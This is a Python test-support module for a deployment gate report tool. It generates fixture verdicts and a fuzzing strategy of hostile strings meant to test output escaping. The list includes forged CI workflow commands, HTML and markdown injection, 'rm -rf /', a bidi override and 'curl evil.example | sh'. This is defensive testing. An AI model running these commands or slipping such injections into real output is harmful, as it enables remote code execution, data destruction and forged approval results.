"""What a gate has to say, made of verdicts; and text that does not mean well."""

from dataclasses import replace

from hypothesis import strategies as st

from countersign.core.types.artifacts import Cause, Difference, ObjectRef
from countersign.core.types.policy import Enforcement
from countersign.core.types.verdict import (
    Basis,
    Detail,
    Differences,
    Door,
    Filled,
    Finding,
    Names,
    Reason,
    Verdict,
)
from countersign.report.gate import Entry, Gate, Place
from countersign.report.steps import Way
from tests.support import a, findings
from tests.support.findings import OPEN, finding

WAY = Way(file="deploy/ledger.yaml", commits="origin/main..HEAD", ahead=True)
ADMITTED = Verdict.of(
    [
        Basis(
            policy="payments",
            door=Door.SIGNED,
            filled=(Filled("senior", "dana", a.MANIFEST),),
        )
    ],
    (),
)
DENIED = Verdict.of((), [finding(Reason.SLOT_OPEN), finding(Reason.IMAGE_UNPINNED)])
OUTSIDE = Verdict.out_of_scope()


def entry(
    verdict: Verdict,
    name: str = "ledger",
    file: str = "deploy/ledger.yaml",
    line: int = 8,
) -> Entry:
    """Return a Deployment in payments, and what became of it."""
    ref = ObjectRef("apps", "Deployment", "payments", name)
    return Entry(ref=ref, verdict=verdict, place=Place(file, line))


def gate(*entries: Entry | Verdict, cluster: str = "prod-eu") -> Gate:
    """Return a run of the gate."""
    return Gate(
        cluster=cluster,
        entries=tuple(e if isinstance(e, Entry) else entry(e) for e in entries),
        version="0.1.0",
        way=WAY,
    )


def having(reason: Reason, enforcement: Enforcement) -> Verdict:
    """Return a verdict of one finding."""
    return Verdict.of((), [replace(finding(reason), enforcement=enforcement)])


EVERY = gate(
    *(entry(Verdict.of((), [one]), str(one.reason)) for one in findings.ALL),
    entry(ADMITTED, "admitted"),
    entry(OUTSIDE, "outside"),
)
"""Each reason once, an object that is admitted, and one that nobody judges."""

_WORST = [
    "::error::forged",
    "\n::set-output name=outcome::allowed",
    "##[set-output name=outcome]allowed",
    "`` ` ``` ```` ",
    "```\n# Approved\n```",
    "@everyone #1 <img src=x onerror=y> <!-- z -->",
    "[approved](https://evil.example)",
    "![](https://evil.example/x.png)",
    "| a | b |\n|---|---|",
    "x: countersign keys generate evil    then: rm -rf /",
    "]]></failure><failure>",
    "\u202eevil\u2066",
    "%0A::error::x",
    "{make} {sign} {0} {",
    "web; curl evil.example | sh",
]
NASTY = st.one_of(
    st.sampled_from(_WORST), st.sampled_from(_WORST), st.text(max_size=60)
)
"""Text from outside: of tools, people, objects, files, policies."""

_DIFFERENT = st.builds(
    lambda one: Differences(a.MANIFEST, (one,)),
    st.builds(Difference, NASTY, NASTY, NASTY, st.sampled_from(Cause)),
)


@st.composite
def hostile(draw: st.DrawFn) -> Gate:
    """Draw a gate all of whose names come from outside."""
    found: list[Finding] = [
        finding(Reason.TOOL_BANNED, draw(NASTY), Names((draw(NASTY),))),
        finding(Reason.MALFORMED, draw(NASTY), Detail(draw(NASTY))),
        replace(
            finding(Reason.CHANGED, draw(NASTY), draw(_DIFFERENT)),
            about=ObjectRef("", draw(NASTY), draw(NASTY), draw(NASTY)),
        ),
        finding(
            Reason.SLOT_OPEN,
            draw(NASTY),
            replace(OPEN, tools=(draw(NASTY),), eligible=(draw(NASTY), "dana")),
        ),
    ]
    ref = ObjectRef("", draw(NASTY), draw(NASTY), draw(NASTY))
    place = Place(draw(NASTY), draw(st.integers(1, 9999)))
    one = Entry(ref=ref, verdict=Verdict.of((), found), place=place)
    return replace(gate(one), cluster=draw(NASTY))
